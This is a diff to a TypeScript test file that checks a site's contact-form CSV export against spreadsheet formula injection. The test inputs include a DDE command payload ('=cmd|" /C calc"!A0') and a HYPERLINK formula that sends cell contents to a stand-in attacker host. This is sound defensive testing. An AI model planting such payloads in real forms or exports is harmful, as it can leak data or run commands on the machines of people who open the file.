@@ -5,6 +5,7 @@ import { submissionCalls } from '#shared/calls/submissions.ts';
 import type { Client } from '#shared/client/http.ts';
 import { startApi, type TestApi } from '#tests/support/api.ts';
 import { createPost } from '#tests/support/content.ts';
+import { csvReaders } from '#tests/support/csv-readers.ts';
 import { cateringFields, contactFields, postForm } from '#tests/support/submissions.ts';
 
 let api: TestApi;
@@ -57,6 +58,27 @@ test.each(['=1+1', '+1', '-1', '@SUM(A1)', '=cmd|" /C calc"!A0', '＝1+1'])(
     expect([row?.['Message'], row?.['Your name']]).toEqual([`'${text}`, `'${text}`]);
   },
 );
+
+test('a visitor’s two-line message can’t start a row of the export with a formula', async () => {
+  const messages = [
+    'Hello there\n=HYPERLINK("http://evil.example/?"&A1,"Invoice")',
+    'one\u2028=1+1\u2029two; @SUM(A1)\t+1',
+    'say "=1"\n\n"=1"',
+    '🌮\n\u200f=مرحبا',
+  ];
+  for (const message of messages) await send(message);
+  const text = new TextDecoder('utf-8', { ignoreBOM: true }).decode(
+    await (await client(submissionCalls.export)).bytes(),
+  );
+  for (const [name, read] of Object.entries(csvReaders)) {
+    const [head = [], ...received] = read(text);
+    expect([name, received.map((cells) => cells.length)]).toEqual([name, messages.map(() => head.length)]);
+    const cells = received.map((row) => row[head.indexOf('Message')] ?? '');
+    expect(cells.map((cell) => cell.replaceAll("'", '')).toSorted(byText)).toEqual(messages.toSorted(byText));
+    for (const piece of cells.flatMap((cell) => cell.split(/[\n\u2028\u2029;\t]/)))
+      expect(piece.trim()).not.toMatch(/^["\u200f]*[=+\-@]/);
+  }
+});
 
 test('can’t start a formula with a tab or a line break before it', async () => {
   await send('Hello');
